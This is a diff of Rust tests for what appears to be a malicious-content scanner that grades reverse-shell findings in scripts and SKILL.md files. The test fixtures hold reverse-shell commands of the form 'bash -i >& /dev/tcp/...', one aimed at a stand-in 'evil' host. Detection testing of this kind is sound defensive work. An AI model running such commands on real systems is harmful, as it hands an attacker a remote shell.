@@ -130,9 +130,8 @@ fn a_heavy_finding_is_not_hidden_by_harmless_ones() {
 #[test]
 fn a_heavy_finding_after_many_accepted_ones_is_new() {
     let lines = |number: usize, last: &str| {
-        let mut text: String =
-            (0..number).map(|at| format!("bash -i >& /dev/tcp/h/{at}\n")).collect();
-        text.push_str(last);
+        let lines = (0..number).map(|at| format!("bash -i >& /dev/tcp/h/{at}"));
+        let text = lines.chain([last.to_owned()]).collect::<Vec<_>>().join("\n");
         scan(&[("a.sh", &text)])
     };
     let last = "bash -i >& /dev/tcp/evil/1\n";
@@ -170,7 +169,7 @@ fn a_file_is_read_as_what_would_execute_it_reads_it() {
     }
     for (file, text) in [
         ("LICENSE-MIT", shell.to_owned()),
-        ("SKILL.md", format!("```sh\ngrep -e 'bash -i >& x'\n```")),
+        ("SKILL.md", "```sh\ngrep -e 'bash -i >& x'\n```".to_owned()),
         ("SKILL.md", format!("```sh\ncheck '{shell}'\n```")),
     ] {
         assert_eq!(weights(&scan(&[(file, &text)])), [("reverse-shell", Low)], "{file}: {text}");
